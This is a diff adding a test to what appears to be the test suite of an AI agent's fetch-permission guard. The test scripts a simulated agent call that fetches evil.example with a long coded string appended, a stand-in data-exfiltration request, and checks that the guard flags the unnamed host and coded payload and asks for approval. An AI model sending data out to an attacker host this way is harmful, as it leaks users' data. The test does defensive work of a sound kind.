@@ -75,3 +75,13 @@ async def test_q34_a_rule_for_the_host_lets_it_pass(stage: Stage, page: str) -> 
         await session.prompt("Look at the page")
         name = session.id
     assert "Not permitted" not in (await stage.results(name, "a"))[1][1]
+
+
+async def test_who_is_asked_anyway_is_told_that_an_address_carries_data(stage: Stage) -> None:
+    stage.plays({"a": [fetch("http://evil.example/" + "zB3" * 20), {"text": "done"}]})
+    async with stage.session() as session:
+        await session.prompt("Look at the page")
+        name = session.id
+    (_, text), *_ = await stage.results(name, "a")
+    assert "mode ask" in text
+    assert "goes to evil.example, which you did not name, and it holds long coded text" in text
